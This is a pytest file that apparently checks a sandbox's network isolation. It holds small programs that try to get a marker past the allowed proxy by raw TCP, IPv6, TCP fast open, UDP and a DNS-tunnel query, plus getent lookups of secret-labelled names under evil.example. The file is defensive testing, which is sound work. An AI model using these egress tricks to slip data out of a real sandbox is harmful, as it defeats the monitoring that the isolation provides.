"""Programs that look for another way out than the one that is judged: each reaches its aim without a box."""

import socket
import threading
from collections.abc import Iterator
from contextlib import contextmanager

import pytest

from real.running import appears, place, until
from real.world import host, lead

_WORD = "carried-out"


class _Aim:
    """Listens on this machine, and keeps what it is sent."""

    def __init__(self, family: socket.AddressFamily, kind: socket.SocketKind) -> None:
        self.socket = socket.socket(family, kind)
        self.socket.bind(("::1" if family is socket.AF_INET6 else "127.0.0.1", 0))
        self.port = int(self.socket.getsockname()[1])
        self.heard: list[bytes] = []  # what it is sent of ours: anybody may ask a port who is there
        self._kind = kind
        if kind is socket.SOCK_STREAM:
            self.socket.setsockopt(socket.IPPROTO_TCP, socket.TCP_FASTOPEN, 5)
            self.socket.listen()

    def _hear(self, data: bytes) -> None:
        if _WORD.encode() in data:
            self.heard.append(data)

    def serve(self) -> None:
        """Until it is closed."""
        while True:
            try:
                if self._kind is socket.SOCK_DGRAM:
                    self._hear(self.socket.recv(65536))
                    continue
                made, _ = self.socket.accept()
            except OSError:
                return
            with made:
                made.settimeout(5)
                self._hear(made.recv(65536))


@contextmanager
def _aim(family: socket.AddressFamily, kind: socket.SocketKind) -> Iterator[_Aim]:
    made = _Aim(family, kind)
    thread = threading.Thread(target=made.serve, daemon=True)
    thread.start()
    try:
        yield made
    finally:
        made.socket.shutdown(socket.SHUT_RDWR) if kind is socket.SOCK_STREAM else _wake(made)
        made.socket.close()
        thread.join(10)


def _wake(aim: _Aim) -> None:
    with socket.socket(aim.socket.family, socket.SOCK_DGRAM) as sock:
        sock.sendto(b"end", aim.socket.getsockname())
        aim.socket.close()


_TCP = f"""
import socket
s = socket.create_connection(("127.0.0.1", PORT), timeout=3); s.sendall(b"{_WORD}"); s.close()
"""
_TCP6 = f"""
import socket
s = socket.create_connection(("::1", PORT), timeout=3); s.sendall(b"{_WORD}"); s.close()
"""
_FAST_OPEN = f"""
import socket
s = socket.socket()
s.sendto(b"{_WORD}", socket.MSG_FASTOPEN, ("127.0.0.1", PORT))
s.close()
"""
_UDP = f"""
import socket
s = socket.socket(type=socket.SOCK_DGRAM); s.sendto(b"{_WORD}", ("127.0.0.1", PORT))
"""
_QUESTION = f"""
import socket
name = b"".join(bytes([len(each)]) + each for each in (b"{_WORD}", b"tunnel", b"example")) + bytes(1)
question = b"\\\\0\\\\1\\\\1\\\\0\\\\0\\\\1\\\\0\\\\0\\\\0\\\\0\\\\0\\\\0" + name + b"\\\\0\\\\x10\\\\0\\\\1"
s = socket.socket(type=socket.SOCK_DGRAM); s.sendto(question, ("127.0.0.1", PORT))
""".replace("\\\\", "\\")


@pytest.mark.parametrize(
    ("family", "kind", "program"),
    [
        pytest.param(socket.AF_INET, socket.SOCK_STREAM, _TCP, id="ignoring the proxy"),
        pytest.param(socket.AF_INET6, socket.SOCK_STREAM, _TCP6, id="by IPv6"),
        pytest.param(socket.AF_INET, socket.SOCK_STREAM, _FAST_OPEN, id="with the first packet"),
        pytest.param(socket.AF_INET, socket.SOCK_DGRAM, _UDP, id="by datagram"),
        pytest.param(socket.AF_INET, socket.SOCK_DGRAM, _QUESTION, id="in a question for a name"),
    ],
)
def test_nothing_leaves_but_by_the_way_that_is_judged(
    family: socket.AddressFamily, kind: socket.SocketKind, program: str
) -> None:
    with _aim(family, kind) as aim, place() as here, host("api.example.com") as api:
        here.write("out.py", program.replace("PORT", str(aim.port)))
        here.host("python3", "out.py")
        until(lambda: aim.heard, "what is heard without a box")
        lead(here, api, network="{host: api.example.com}")
        here.sh("python3 out.py; curl -s -m 5 https://api.example.com/")
        assert here.report()["state"] == "ended"
        assert len(aim.heard) == 1, aim.heard


def test_a_name_that_is_asked_for_is_told_to_nobody() -> None:
    with place() as here, host("api.example.com") as api:
        lead(here, api, network="{host: api.example.com}")
        script = (
            "for n in a b; do getent hosts $n-secret.evil.example; getent hosts $n-secret.evil.example; done"
        )
        said = here.sh(script).out.split()
        addresses = [each for each in said if each[0].isdigit()]
        assert len(addresses) == 4
        assert all(each.startswith(("198.18.", "198.19.")) for each in addresses), said


def test_a_box_is_no_relay_for_another() -> None:
    """What listens in one is not reached from the other, by number, by name or by an abstract socket."""
    with place() as here, host("api.example.com") as api:
        lead(here, api, network="{host: api.example.com}")
        here.write(
            "listen.py",
            "import socket, time\n"
            "s = socket.create_server(('0.0.0.0', 8123))\n"
            "a = socket.socket(socket.AF_UNIX); a.bind('\\0relay'); a.listen()\n"
            "open('listens', 'w').write('yes\\n')\n"
            "s.settimeout(60)\n"
            "try: s.accept(); open('reached', 'w').write('tcp')\n"
            "except TimeoutError: pass\n",
        )
        here.write(
            "ask.py",
            "import socket\n"
            "for address in ('127.0.0.1', '10.0.0.1', 'localhost'):\n"
            "    try:\n"
            "        s = socket.create_connection((address, 8123), timeout=2)\n"
            "        s.sendall(b'x'); print(s.recv(9))\n"
            "    except OSError as error: print('refused')\n"
            "try: socket.socket(socket.AF_UNIX).connect('\\0relay'); print('reached')\n"
            "except OSError: print('refused')\n",
        )
        listening = here.start("run", "--", "python3", "listen.py")
        try:
            appears(here.tree / "listens")
            done = here.run("python3", "ask.py")
        finally:
            here.ringfence("kill", "--all")
            listening.communicate(timeout=60)
        assert "reached" not in done.out, done
        assert not (here.tree / "reached").exists(), done
